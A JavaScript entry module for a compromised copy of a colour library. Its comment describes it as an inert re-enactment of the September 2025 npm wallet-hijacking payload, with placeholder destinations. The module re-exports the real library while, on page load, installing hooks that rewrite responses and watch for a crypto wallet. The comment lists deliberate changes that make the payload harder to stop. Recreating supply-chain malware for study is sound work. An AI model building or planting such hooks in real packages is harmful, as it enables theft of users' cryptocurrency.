// Owns the compromised tinychalk: the honest colours, plus an inert re-enactment of the September 2025 npm payload.
//
// Written from the published analyses, not from the payload. Every destination is a placeholder nobody holds a key
// to, nothing is sent anywhere else, and nothing outlives the page. It differs from the original in three ways, each
// of which makes it harder to stop: it waits for a wallet that arrives late, it picks the nearest look-alike for
// wallet requests too, and where its hook does not take it tries again one layer up (see provider.js).

import chalk from '../index.js';
import { watchForWallet } from './provider.js';
import { rewriteResponses } from './responses.js';

const state = { walletConnected: false };

if (typeof window !== 'undefined') {
  rewriteResponses(state);
  watchForWallet(state);
}

export default chalk;
